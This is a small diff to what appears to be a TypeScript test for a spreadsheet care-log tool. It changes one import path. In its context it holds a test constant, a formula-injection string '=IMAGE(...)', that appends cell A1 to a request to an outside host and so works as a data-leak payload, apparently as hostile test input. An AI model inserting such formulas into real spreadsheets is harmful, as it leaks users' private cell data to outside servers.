@@ -7,7 +7,7 @@ import { activeWorkbook } from "../../src/host/workbook.ts";
 import { appendRecords } from "../../src/sheet/append.ts";
 import { openBook } from "../../src/sheet/find.ts";
 import { CARE_LOG } from "../../src/sheet/log-tabs.ts";
-import { drawn } from "../drawn.js";
+import { drawn } from "../drawn.ts";
 import { careEntry, newId, readyBook } from "./workbook.ts";
 
 const IMAGE = '=IMAGE("https://example.org/a.png?"&A1)';
